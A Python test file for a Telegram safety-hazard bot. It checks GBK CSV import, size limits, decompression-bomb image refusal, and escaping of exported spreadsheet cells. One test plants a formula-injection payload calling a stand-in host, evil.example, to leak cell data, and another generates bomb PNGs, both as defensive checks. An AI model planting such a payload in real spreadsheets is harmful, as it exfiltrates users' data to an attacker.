"""Input nobody planned for, over HTTP against the emulator: files as Chinese offices save
them, files too big, and the bot stays within Telegram's limits."""

import io
import logging
from datetime import date

from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import select

from bot.emulator.harness import LocalRun, TgUser
from domain.uscc import complete
from storage.models import Enterprise, Hazard
from tests.conftest import ADMIN, grant, rows
from tests.test_tips_e2e import press


async def test_gbk_tab_separated_file_is_imported_in_chat(local, seeded):
    code = complete("91330226FFFFFFFFF")
    body = f"uscc\tname\tdivision\r\n{code}\t宁海县桥头胡五金厂\t330226100\r\n".encode("gbk")
    reply = await local.client.send_document(ADMIN, "企业.csv", body, caption="enterprises")
    assert "inserted 1" in reply.text
    async with seeded() as s:
        assert await s.scalar(select(Enterprise.name).where(Enterprise.uscc == code)) == "宁海县桥头胡五金厂"


async def test_a_file_over_the_size_limit_is_refused_before_download(settings, seeded):
    async with LocalRun(settings.model_copy(update={"import_max_mb": 1})) as run:
        body = b"uscc,name,division\n" + b"x,y,z\n" * 200_000
        reply = await run.client.send_document(ADMIN, "e.csv", body, caption="enterprises")
        assert "over 1 MB" in reply.text
        assert (await run.client.stats())["calls"].get("getFile", 0) == 0


def _png(side: int) -> bytes:
    """A PNG of side × side blank pixels: a few KB that would decode to side² bytes or more."""
    buf = io.BytesIO()
    Image.new("1", (side, side)).save(buf, "PNG")
    return buf.getvalue()


async def _tip_until_photos(local, user, about: str) -> None:
    await local.client.send(user, "/tip")
    found = await local.client.send(user, about)
    step = await press(local, user, found, about)
    step = await press(local, user, step, "Unsafe condition")
    step = await local.client.send(user, "车间消防通道被货物堵死，已经好几个月了")
    assert "Send 0–" in step.text


async def test_decompression_bombs_are_refused_and_the_dialog_goes_on(local, seeded, county, caplog):
    tipster = TgUser(940000001, "Tip", "", "", "en")
    await _tip_until_photos(local, tipster, rows(county, "enterprises")[0]["name"])
    for side in (12_000, 20_000):  # over IMAGE_MAX_MEGAPIXELS; over Pillow's own bomb limit
        reply = await local.client.send_document(tipster, "scan.png", _png(side))
        assert "too large (over 40 megapixels)" in reply.text, reply.text
    reply = await local.client.send_photo(tipster, _png(100))
    assert "Photo 1 received" in reply.text
    assert "Photos: 1" in (await press(local, tipster, reply, "Done")).text
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR], caplog.text


async def test_overdue_export_keeps_formula_like_descriptions_as_text(local, seeded, county):
    ent = rows(county, "enterprises")[0]
    regulator = TgUser(940000002, "Reg", "", "", "en")
    await grant(seeded, regulator, "regulator", ent["division"])
    evil = '=HYPERLINK("http://evil.example/"&A1,"查看整改通知")'
    async with seeded() as s:
        eid = await s.scalar(select(Enterprise.id).where(Enterprise.uscc == ent["uscc"]))
        s.add(
            Hazard(
                ref="EVIL-1",
                enterprise_id=eid,
                found_on=date(2020, 1, 1),
                description=evil,
                level="major",
                deadline=date(2020, 2, 1),
                status="open",
            )
        )
        await s.commit()
    listing = await local.client.send(regulator, "/overdue")
    message = listing.last_with_buttons()
    export = next(
        b for row in message["reply_markup"]["inline_keyboard"] for b in row if "Export" in b["text"]
    )
    reply = await local.client.press(regulator, message, data=export["callback_data"])
    doc = next(m["document"] for m in reply.messages if "document" in m)
    sheet = load_workbook(io.BytesIO(await local.client.file(doc["file_id"]))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
